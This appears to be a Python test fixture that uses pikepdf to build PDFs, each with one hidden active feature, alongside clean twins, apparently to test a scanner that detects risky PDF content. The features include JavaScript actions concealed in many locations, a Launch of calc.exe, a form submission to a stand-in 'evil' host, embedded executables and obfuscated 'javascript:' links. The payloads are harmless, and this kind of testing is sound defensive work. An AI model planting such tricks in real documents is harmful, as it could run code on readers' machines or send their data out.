"""PDFs with one trick each, and their clean twins, made when they are needed."""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.common.files import pdf, photograph


def action(kind, **more):
    return Dictionary(S=Name(kind), **more)


SCRIPT = ("/JavaScript", {"JS": "app.alert(1)"})


def script():
    return action("/JavaScript", JS=String("app.alert(1)"))


def opening(kind, **more):
    """An action that runs when the file is opened."""

    def change(file):
        file.Root.OpenAction = file.make_indirect(action(kind, **more))

    return change


def in_root(**more):
    def change(file):
        for key, value in more.items():
            file.Root[f"/{key}"] = value() if callable(value) else value

    return change


def on_page(**more):
    def change(file):
        for key, value in more.items():
            file.pages[1].obj[f"/{key}"] = value() if callable(value) else value

    return change


def annotation(subtype, **more):
    def change(file):
        values = {key: value() if callable(value) else value for key, value in more.items()}
        shown = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array([0, 0, 9, 9]), **values)
        file.pages[1].obj.Annots = file.make_indirect(Array([file.make_indirect(shown)]))

    return change


def link(kind, **more):
    return annotation("/Link", A=lambda: action(kind, **more))


def web_link(address):
    return link("/URI", URI=address)


def embedded(file):
    stream = file.make_stream(b"MZ", {"/Type": Name.EmbeddedFile})
    return Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=stream))


def attachment_in_names(*, inline):
    def change(file):
        names = Dictionary(Names=Array([String("a.exe"), embedded(file)]))
        leaf = names if inline else file.make_indirect(Dictionary(Kids=Array([file.make_indirect(names)])))
        file.Root.Names = Dictionary(EmbeddedFiles=leaf)

    return change


def chained(file):
    """A plain action, and a script that comes next, in an array, behind two others."""
    first = action("/GoTo", D=Array([file.pages[0].obj, Name.Fit]))
    first.Next = Array(
        [
            action("/URI", URI=String("https://example.org")),
            file.make_indirect(action("/Named", N=Name.Print, Next=script())),
        ]
    )
    annotation("/Link", A=lambda: first)(file)


def hidden_name(file):
    """The kind of an action kept as an object of its own."""
    kind = file.make_indirect(Name.JavaScript)
    file.Root.OpenAction = Dictionary(S=kind, JS=String("1"))


def field_of(file, **more):
    field = file.make_indirect(Dictionary(FT=Name.Tx, T=String("Total"), **more))
    file.Root.AcroForm = Dictionary(Fields=Array([field]))
    return field


def script_in_field(file):
    field_of(file, AA=Dictionary(C=script()))


def script_in_widget(file):
    field = field_of(file)
    widget = Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]), Parent=field)
    widget.AA = Dictionary(U=script())
    widget = file.make_indirect(widget)
    field.Kids = Array([widget])
    file.pages[1].obj.Annots = Array([widget])


def bookmarks(*actions):
    def change(file):
        first = file.make_indirect(Dictionary(Title=String("First"), A=actions[0]()))
        outlines = Dictionary(Type=Name.Outlines, First=first, Last=first, Count=1)
        file.Root.Outlines = file.make_indirect(outlines)

    return change


def external_stream(file):
    file.pages[1].obj.Contents = file.make_stream(b"", {"/F": String("//server/share/a")})


def page_of_another_file(file):
    form = file.make_stream(
        b"", {"/Subtype": Name.Form, "/BBox": Array([0, 0, 1, 1]), "/Ref": Dictionary(F=String("b.pdf"), Page=0)}
    )
    file.pages[1].obj.Resources = Dictionary(XObject=Dictionary(A=form))


def script_far_down(file):
    """Behind private keys that no reader of PDFs uses, 2,000 dictionaries deep."""
    thing = script()
    for _step in range(2000):
        thing = file.make_indirect(Dictionary(Next=thing))
    file.Root.Private = thing


def locked(**passwords):
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as file:
        file.save(out, encryption=pikepdf.Encryption(**passwords))
    return out.getvalue()


def with_author(file):
    """Who, with what, where: in the information, in XMP of the file, a page and a picture, and inside a photograph."""
    file.docinfo["/Author"] = "Anna Parent"
    with file.open_metadata() as data:
        data["dc:creator"] = ["Anna Parent"]
    page = file.pages[0].obj
    page.Metadata = file.make_stream(b"<x>Anna Parent</x>", {"/Type": Name.Metadata})
    page.PieceInfo = Dictionary(Tool=Dictionary(Private=String("Anna Parent")))
    look = {"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 40, "/Height": 20, "/ColorSpace": Name.DeviceRGB}
    picture = file.make_stream(photograph(), look | {"/BitsPerComponent": 8, "/Filter": Name.DCTDecode})
    picture.Metadata = file.make_stream(b"<x>Anna Parent</x>", {"/Type": Name.Metadata})
    page.Resources = Dictionary(XObject=Dictionary(Im=picture))
    page.Contents = file.make_stream(b"q 40 0 0 20 0 0 cm /Im Do Q")


ON_2 = "on page 2"
ODD_LINK = f"a link that is not to a web page, an e-mail address or a telephone number {ON_2}"
TRICKS = {
    "script where it opens": (opening("/JavaScript", JS="1"), "a script where it opens"),
    "script as a stream": (
        lambda file: opening("/JavaScript", JS=file.make_stream(b"1"))(file),
        "a script where it opens",
    ),
    "kind of the action an object of its own": (hidden_name, "a script where it opens"),
    "script in the catalogue's own actions": (in_root(AA=lambda: Dictionary(WC=script())), "a script where it opens"),
    "script in the names": (
        in_root(Names=lambda: Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))),
        "a script in its list of names",
    ),
    "script of a page": (on_page(AA=lambda: Dictionary(O=script())), f"a script {ON_2}"),
    "script that comes next": (chained, f"a script {ON_2}"),
    "script of a field": (script_in_field, "a script in its form fields"),
    "script of a widget": (script_in_widget, f"a script {ON_2}"),
    "script of a bookmark": (bookmarks(script), "a script in its bookmarks"),
    "script far down": (script_far_down, "a script outside its pages"),
    "script in a rendition": (link("/Rendition", JS="1"), f"a film, a sound or a 3D model {ON_2}"),
    "launch": (link("/Launch", F="calc.exe"), f"a command that starts a program {ON_2}"),
    "other file": (link("/GoToR", F="b.pdf", D=0), f"a link to another file {ON_2}"),
    "file inside": (link("/GoToE", D=0), f"an attached file {ON_2}"),
    "import": (opening("/ImportData", F="a.fdf"), "a command that fetches data where it opens"),
    "submit": (
        link("/SubmitForm", F="http://evil"),
        f"a button that sends what is filled in {ON_2}",
    ),
    "attachment in the names": (attachment_in_names(inline=True), "an attached file in its list of names"),
    "attachment in a tree of names": (attachment_in_names(inline=False), "an attached file in its list of names"),
    "attachment on a page": (
        lambda file: annotation("/FileAttachment", FS=lambda: embedded(file))(file),
        f"an attached file {ON_2}",
    ),
    "associated file": (lambda file: in_root(AF=Array([embedded(file)]))(file), "an attached file outside its pages"),
    "portfolio": (in_root(Collection=Dictionary), "an attached file outside its pages"),
    "XFA": (
        in_root(AcroForm=lambda: Dictionary(XFA=String("<xdp/>"), Fields=Array([]))),
        "a form of the kind called XFA in its form fields",
    ),
    "film": (annotation("/RichMedia"), f"a film, a sound or a 3D model {ON_2}"),
    "screen": (annotation("/Screen"), f"a film, a sound or a 3D model {ON_2}"),
    "content from elsewhere": (external_stream, f"a link to another file {ON_2}"),
    "page from elsewhere": (page_of_another_file, f"a link to another file {ON_2}"),
    "script in a link": (web_link("java\tscript:alert(1)"), ODD_LINK),
    "file in a link": (web_link("file:///C:/a"), ODD_LINK),
    "server in a link": (web_link("\\\\server\\share"), ODD_LINK),
}
CLEAN = {
    "pages": None,
    "web link": web_link("https://example.org/a?b=c"),
    "e-mail link": web_link("MAILTO:a@example.org"),
    "link beside it": web_link("agenda.pdf"),
    "bookmark": bookmarks(lambda: action("/GoTo", D="first")),
    "print button": link("/Named", N=Name.Print),
    "form": field_of,
    "empty list of attachments": in_root(Names=lambda: Dictionary(EmbeddedFiles=Dictionary(Names=Array([])))),
    "the words of a script": on_page(Note=String("/S /JavaScript /JS (app.alert(1))")),
    "author": with_author,
}
